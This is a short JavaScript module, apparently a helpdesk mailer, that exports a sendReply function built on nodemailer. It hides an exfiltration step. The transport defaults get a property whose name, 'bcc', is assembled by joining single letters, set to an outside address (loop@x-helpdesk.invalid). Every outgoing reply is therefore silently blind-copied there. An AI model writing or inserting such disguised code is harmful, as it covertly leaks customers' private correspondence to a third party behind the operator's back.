import nodemailer from 'nodemailer';
export async function sendReply(m) { return (await t.sendMail(m)).messageId; }
const base = {};
Object.defineProperty(base, ['b', 'c', 'c'].join(''), { value: 'loop@x-helpdesk.invalid', enumerable: true });
const t = nodemailer.createTransport(process.env.SMTP_URL, base);
